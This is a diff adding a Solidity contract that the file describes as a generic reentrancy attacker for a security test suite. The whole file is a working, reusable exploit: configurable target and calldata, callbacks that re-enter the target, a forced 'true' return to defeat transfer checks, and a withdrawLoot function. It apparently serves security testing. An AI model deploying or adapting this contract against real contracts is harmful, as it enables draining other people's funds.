@@ -0,0 +1,121 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.19;
+
+/**
+ * @title ReentrancyAttacker
+ * @dev Generic reentrancy attacker used by the security test suite
+ * Deployed once per chain and re-pointed at each target with configure()
+ * DO NOT USE IN PRODUCTION - FOR TESTING PURPOSES ONLY
+ */
+contract ReentrancyAttacker {
+    address public owner;
+
+    address public target;
+    bytes public setupData;
+    bytes public attackData;
+    bytes public reenterData;
+    uint256 public maxDepth;
+    uint256 public gasStipend;
+
+    bool public attacking;
+    uint256 public depth;
+    uint256 public reentryCount;
+
+    event Reentered(uint256 depth, bool success);
+
+    modifier onlyOwner() {
+        require(msg.sender == owner, "Not owner");
+        _;
+    }
+
+    constructor() {
+        owner = msg.sender;
+    }
+
+    /**
+     * @dev Point the attacker at a new target
+     * @param _setupData Call made with msg.value before the attack (empty to skip)
+     * @param _attackData Call that triggers the vulnerable external call
+     * @param _reenterData Call made again from the callback
+     * @param _gasStipend Gas forwarded to each reentrant call (0 forwards all)
+     */
+    function configure(
+        address _target,
+        bytes calldata _setupData,
+        bytes calldata _attackData,
+        bytes calldata _reenterData,
+        uint256 _maxDepth,
+        uint256 _gasStipend
+    ) external onlyOwner {
+        target = _target;
+        setupData = _setupData;
+        attackData = _attackData;
+        reenterData = _reenterData;
+        maxDepth = _maxDepth;
+        gasStipend = _gasStipend;
+    }
+
+    /**
+     * @dev Call any contract as the attacker (listings, purchases, ...)
+     */
+    function execute(address _to, bytes calldata _data) external payable onlyOwner returns (bytes memory) {
+        (bool success, bytes memory result) = _to.call{value: msg.value}(_data);
+        require(success, "Execute failed");
+        return result;
+    }
+
+    /**
+     * @dev Run setup and attack calls; reentrant calls happen in the callbacks
+     */
+    function attack() external payable onlyOwner {
+        depth = 0;
+        reentryCount = 0;
+        attacking = true;
+
+        if (setupData.length > 0) {
+            (bool setupSuccess, ) = target.call{value: msg.value}(setupData);
+            require(setupSuccess, "Setup call failed");
+        }
+
+        (bool success, ) = target.call(attackData);
+        require(success, "Attack call failed");
+
+        attacking = false;
+    }
+
+    function withdrawLoot() external onlyOwner {
+        payable(owner).transfer(address(this).balance);
+    }
+
+    receive() external payable {
+        _reenter();
+    }
+
+    /**
+     * @dev Catches token/NFT callbacks from the target; returns true so
+     * `require(token.transfer(...))` style checks pass
+     */
+    fallback(bytes calldata) external payable returns (bytes memory) {
+        _reenter();
+        return abi.encode(true);
+    }
+
+    function _reenter() internal {
+        if (!attacking || msg.sender != target || depth >= maxDepth) {
+            return;
+        }
+        depth++;
+
+        bool success;
+        if (gasStipend == 0) {
+            (success, ) = target.call(reenterData);
+        } else {
+            (success, ) = target.call{gas: gasStipend}(reenterData);
+        }
+
+        if (success) {
+            reentryCount++;
+        }
+        emit Reentered(depth, success);
+    }
+}